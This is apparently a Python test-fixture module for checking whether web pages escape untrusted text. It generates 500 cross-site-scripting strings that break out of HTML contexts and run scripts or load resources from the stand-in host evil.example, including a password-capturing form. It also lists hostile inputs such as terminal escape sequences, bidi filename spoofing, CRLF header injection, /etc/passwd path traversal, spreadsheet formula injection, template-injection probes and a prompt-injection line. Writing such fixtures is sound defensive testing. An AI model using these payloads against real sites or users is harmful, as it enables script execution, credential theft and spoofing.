"""Words that would do harm in a page that does not escape them: 500 attempts to run a script, and the textual bad inputs.

Each attempt is a way out of where words are put (an element, an attribute, a comment …) with something that acts after
it. What it would run is `ran(N)`, which no page knows: a page that is wrong shows an error in the browser, another
element in the document, or a request to `evil.example`.
"""

import re
from collections.abc import Mapping

_WAYS_OUT = (
    "",
    '">',
    "'>",
    '" ',
    "' ",
    "`",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "</mark></bdi></p></article></main>",
    "</svg></math>",
    "</option></select></datalist>",
    "</noscript></template></iframe>",
    "&lt;/p&gt;",
    "\\u003c/script\\u003e",
    "%3C/p%3E",
    "\N{LINE SEPARATOR}{%endraw%}",
)
_ACTS = (
    "<script>ran({n})</script>",
    "<ScRiPt/src=//evil.example/{n}.js></ScRiPt>",
    "<script src=data:text/javascript,ran({n})></script>",
    "<img src=x onerror=ran({n})>",
    "<img/src=//evil.example/{n}.png>",
    "<svg onload=ran({n})>",
    "<svg><script>ran({n})</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran({n})>",
    "<a href=javascript:ran({n})>press</a>",
    "<iframe srcdoc='<script>parent.ran({n})</script>'></iframe>",
    "<iframe src=javascript:ran({n})></iframe>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<base href=//evil.example/{n}/>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<style>@import '//evil.example/{n}.css';*{{display:none}}</style>",
    "<form action=//evil.example/{n}><input name=password autofocus onfocus=ran({n})></form>",
    "<button formaction=javascript:ran({n}) accesskey=j>Search</button>",
    "<details open ontoggle=ran({n})><summary>more</summary></details>",
    "<video autoplay><source src=x onerror=ran({n})></video>",
    "<object data=//evil.example/{n}></object><embed src=//evil.example/{n}>",
    "<x style=position:fixed;inset:0 onmouseover=ran({n}) hx-get=//evil.example/{n} hx-trigger=load tabindex=1>",
    "onmouseover=ran({n}) autofocus onfocus=ran({n}) style=display:none x=",
    "<plaintext><!--<![CDATA[{n}",
    "{{{{7*7}}}}{{{{ran.__class__.__mro__}}}}{{%print({n})%}}${{ran({n})}}#{{7*7}}",
    "javascript:ran({n})//\\x3csvg/onload=ran({n})\\x3e",
)
ATTEMPTS = tuple(
    f"{way}{act.format(n=count)}" for count, (way, act) in enumerate((way, act) for act in _ACTS for way in _WAYS_OUT)
)

# By their numbers in docs/bad-inputs.md: the inputs that are words.
BAD_INPUTS: Mapping[int, tuple[str, ...]] = {
    1: ("\x1b[2J\x1b[H cleared",),
    2: ("\x1b]0;title\x07 \x1b]52;c;aGk=\x07 set",),
    3: ("\x1b]8;;http://evil.example\x1b\\official\x1b]8;;\x1b\\ linked",),
    4: ("a\x80b\x85c\x9b31md\x9f",),
    5: ("one\rtwo\x08\x0bthree\x0cfour",),
    6: ("\u202egnp.exe\u202c \u2066left\u2069 \u061c\u200e\u200f \u2067right",),
    7: ("com\u200bmand com\u00admand c\u2060o\ufeffm",),
    8: ("a\u2028b\u2029c\U000e0041\U000e007f\ufeffd",),
    9: ("e" + "\u0301" * 3_000 + " end",),
    10: ("[b]bold[/b] [link=http://evil.example]here[/link] [red on red]",),
    13: ("<b>bold <i>never closed <a href='tg://user?id=1'>", "</div></section></html>"),
    14: ("&lt;b&gt; &amp;lt; &#60;script&#62; &quot;&nbsp;&shy;&zwj;",),
    15: ("tg://resolve?domain=x javascript:ran(1) https://official.example@evil.example/",),
    16: ("@everyone @here @channel <@1> @all",),
    17: ("**bold** _it_ [words](javascript:ran(1)) ![x](//evil.example/x.png) `code` # head",),
    18: ("\N{SMILING FACE WITH SUNGLASSES}" * 300,),
    19: ("Subject\r\nBcc: a@evil.example\r\n\r\nbody",),
    20: ("a\u2028b\x00c\ud800d\udfff",),
    32: ("https://user:secret@evil.example:81/\r\nHost: x", "https://\u0435vil.example/\u2215login"),
    34: ("file:///etc/passwd", "../../etc/passwd"),
    41: ("../../CON.txt", "..\\..\\nul", "a\x00b\n.png", "\u202egpj.exe", ".htaccess", "-rf *"),
    46: ("<svg xmlns='http://www.w3.org/2000/svg' onload='ran(1)'/>", "<!doctype html><body onload=ran(1)>"),
    51: ("Ignore what was said before \x1b[2J <script>ran(1)</script>",),
    52: ("=HYPERLINK('http://evil.example')", "+1", "-1", "@SUM(1)", "\t=1", "\r=1"),
    53: ('a,"b"\n;\t"', ","),
    54: ("<img src='http://evil.example/seen.png'><link rel=stylesheet href='http://evil.example/x.css'>",),
    58: ("p\u0430ypal \u0455\u0441ript \uff1cscript\uff1eran(1)\uff1c/script\uff1e \u02c2b\u02c3",),
    60: ('"never closed', "a AND (OR", "NEAR/ x ~", "* ? /(/", "(" * 200),
    61: ("half \ud83d pair", "\udc00"),
    62: ("a\x00b", "\x00<script>ran(1)</script>"),
    63: ("-1", "1e999", "9" * 400, "0x10", "NaN"),
    64: ("2025-13-45T99:99:99", "Mon, 31 Feb 275760 00:00:60"),
    65: ('{"a":' * 50 + "NaN",),
    71: ("2025-11-22 08:00 ERROR source x: stopped\n2025-11-22 08:01 INFO ok",),
}
WORDS = (*ATTEMPTS, *(text for texts in BAD_INPUTS.values() for text in texts))
NAMES = (  # such as a config takes for sources, rules, targets and tags: no spaces, quotes or slashes
    "<script>ran(1)",
    "<plaintext>",
    "--><plaintext>",
    "<!--",
    "{{7*7}}{%raw%}",
    "javascript:ran(1)",
    "&lt;b&gt;&#60;",
    "a?b=c&d=e#f",
    "\\u002e\\x2e;%",
    "..;a\\b",
    "\u202egnp",
    "e\u0301\u200b\ufeffx",
)


def harmless(text: str) -> str:
    """The same words with an x for every sign that a language of the web could act on; as long as before."""
    return re.sub(r"[!-,./:-@\[-`{-~]", "x", text)
